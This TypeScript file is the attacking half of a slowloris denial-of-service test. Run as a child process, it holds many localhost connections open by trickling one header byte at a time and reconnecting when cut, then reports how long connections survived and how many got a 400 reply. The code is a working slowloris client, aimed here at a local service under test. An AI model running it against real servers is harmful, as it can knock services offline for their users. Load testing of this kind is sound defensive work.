// The attacking side of slowloris.test.ts, in its own process so that its sockets do not share
// the service's event loop: `count` connections that each send a request head one header byte
// every `trickleMs`, reconnecting within a second when the service cuts one. Reports over IPC.
import { type Socket, connect } from "node:net";

const [port, count, trickleMs] = process.argv.slice(2).map(Number) as [number, number, number];
const live = new Set<Socket>();
const held: number[] = [];
let peak = 0;
let cut = 0;
let answered400 = 0;
let stopping = false;

function attack(): void {
  if (stopping) return;
  let start = 0;
  const socket = connect(port, "127.0.0.1", () => {
    start = Date.now();
    socket.write("GET /v2/products HTTP/1.1\r\nHost: x\r\nX-Slow: ");
  });
  live.add(socket);
  peak = Math.max(peak, live.size);
  let text = "";
  socket.on("data", (chunk: Buffer) => (text += chunk.toString("latin1")));
  socket.on("error", () => {});
  socket.on("close", () => {
    live.delete(socket);
    if (stopping) return;
    cut += 1;
    if (start !== 0) held.push(Date.now() - start);
    if (text.startsWith("HTTP/1.1 400 ")) answered400 += 1;
    // Back within a second, as a slowloris does, not all in the same tick.
    setTimeout(attack, Math.random() * 1000);
  });
}

// Opened in batches, not all in the same tick: the listen backlog is finite.
for (let i = 0; i < count; i++) {
  attack();
  if (i % 100 === 99) await new Promise((wait) => setTimeout(wait, 20));
}
const trickle = setInterval(() => {
  for (const socket of live) if (socket.writable && !socket.connecting) socket.write("a");
}, trickleMs);
process.send!({ ready: true, open: live.size });

process.on("message", () => {
  stopping = true;
  clearInterval(trickle);
  for (const socket of live) socket.destroy();
  process.send!({ peak, cut, answered400, longest: Math.max(0, ...held) }, () => process.exit(0));
});
